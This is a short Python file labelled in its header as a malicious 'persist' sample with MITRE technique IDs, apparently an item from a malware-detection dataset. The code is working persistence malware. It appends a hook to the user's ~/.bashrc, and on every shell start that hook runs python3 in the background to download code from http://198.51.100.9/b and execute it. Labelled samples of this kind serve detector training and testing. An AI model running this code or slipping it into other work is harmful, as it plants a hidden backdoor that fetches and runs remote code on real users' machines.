# label: malicious family=persist techniques=T1059.004,T1059.006,T1105,T1546.004,T1620 lines=4,6
import os
rc = os.path.expanduser("~/.bashrc")
hook = "\n(nohup python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://198.51.100.9/b\").read())' >/dev/null 2>&1 &)\n"
if hook not in open(rc).read():
    open(rc, "a").write(hook)
